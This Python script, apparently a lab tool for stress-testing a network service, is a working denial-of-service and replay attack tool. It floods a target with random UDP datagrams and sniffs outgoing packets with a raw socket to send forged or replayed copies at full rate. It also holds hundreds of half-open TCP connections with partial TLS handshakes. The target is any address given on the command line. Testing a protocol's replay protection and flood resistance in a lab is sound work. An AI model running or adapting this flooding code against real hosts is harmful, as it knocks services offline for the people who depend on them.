#!/usr/bin/python3
"""A stranger on the network of a host, at full rate, for some seconds. Run in a host of the lab:

    attacker.py KIND TARGET PORT SECONDS

KIND: garbage    random datagrams
      forged     datagrams of a wire as they pass by, with bits turned, and counters of the future
      replayed   the same, as they were
      half-open  TCP connections that begin a TLS handshake and go no further

forged and replayed need packets of a wire from this host to TARGET to copy, and CAP_NET_RAW. Says as JSON how
many were sent: {"kind", "sent", "seconds"}.
"""

import json
import os
import random
import select
import socket
import sys
import time

UDP, UDP_SEGMENT = 17, 103  # linux/udp.h; Python has no name for it
SEGMENTS = 50               # of a run: 64 KiB at most
CLIENT_HELLO_BEGINS = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


def is_over(begun, seconds):
    return time.monotonic() - begun >= seconds


def flood(target, seconds, runs):
    """Sends runs of datagrams of one size, over and over, as fast as the kernel takes them."""
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    plain.connect(target)
    sent, begun = 0, time.monotonic()
    while not is_over(begun, seconds):
        for size, run in runs:
            plain.setsockopt(UDP, UDP_SEGMENT, size)
            try:
                plain.send(run)
            except OSError:
                continue  # the queue is full
            sent += len(run) // size
    return sent


def garbage(target, seconds):
    runs = [(size, os.urandom(size * SEGMENTS)) for size in (1200, 400, 60, 1201)]
    return flood(target, seconds, runs)


def overheard(target, count):
    """The bodies of datagrams that leave this host for the target."""
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    tap.settimeout(10)
    bodies = []
    while len(bodies) < count:
        packet, about = tap.recvfrom(65536)
        if about[2] != socket.PACKET_OUTGOING or about[1] != 0x0800 or packet[9] != UDP:
            continue
        if packet[16:20] == socket.inet_aton(target[0]) and packet[22:24] == target[1].to_bytes(2, "big"):
            body = packet[28:]
            if len(body) <= 1400:
                bodies.append(bytes(body))
    return bodies


def runs_of(bodies):
    by_size = {}
    for body in bodies:
        by_size.setdefault(len(body), []).append(body)
    for size, some in by_size.items():
        yield size, b"".join((some * SEGMENTS)[:SEGMENTS])


def forged(target, seconds):
    bodies = []
    for body in overheard(target, 200):
        for ahead in (0, 1 << 20):  # the window has seen the first, not the second
            counter = int.from_bytes(body[8:16], "big") + ahead
            changed = bytearray(body[:8] + counter.to_bytes(8, "big") + body[16:])
            changed[random.randrange(16, len(changed))] ^= 1 << random.randrange(8)
            bodies.append(bytes(changed))
    return flood(target, seconds, list(runs_of(bodies)))


def replayed(target, seconds):
    return flood(target, seconds, list(runs_of(overheard(target, 200))))


def half_open(target, seconds):
    held, sent, begun = [], 0, time.monotonic()
    while not is_over(begun, seconds):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex(target)
        held.append(one)
        sent += 1
        if len(held) < 400:
            continue
        _, ready, _ = select.select([], held, [], 0.2)
        for each in ready:
            try:
                each.send(CLIENT_HELLO_BEGINS)
            except OSError:
                pass
        for each in held[:200]:
            each.close()
        del held[:200]
    return sent


KINDS = {"garbage": garbage, "forged": forged, "replayed": replayed, "half-open": half_open}


def main():
    if len(sys.argv) != 5 or sys.argv[1] not in KINDS:
        print(__doc__, file=sys.stderr)
        return 2
    kind, address, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    begun = time.monotonic()
    sent = KINDS[kind]((address, port), seconds)
    print(json.dumps({"kind": kind, "sent": sent, "seconds": time.monotonic() - begun}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
